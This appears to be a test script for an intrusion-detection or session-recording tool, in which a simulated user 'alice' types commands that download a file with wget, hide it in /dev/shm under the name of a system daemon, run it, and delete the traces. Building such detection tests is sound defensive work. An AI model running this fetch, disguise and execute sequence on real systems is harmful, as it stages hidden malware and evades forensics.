# alice fetches a program with wget, hides it under another name, gives it the mode 0700 and runs it by its whole path.
# rules: recording
# format: RAW
# node: build-03
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

mkdir "$work/web"
a_program "$work/web/libhelper.tar.gz"
serves "$work/web" 8080
types "$source_ip" alice alice-Passw0rd <<TYPED
cd /dev/shm
wget -q http://$source_ip:8080/libhelper.tar.gz
mkdir .ice
mv libhelper.tar.gz .ice/dbus-daemon
chmod 0700 .ice/dbus-daemon
cd
/dev/shm/.ice/dbus-daemon &
sleep 1.5
rm -rf /dev/shm/.ice
exit
TYPED
kill "$server"
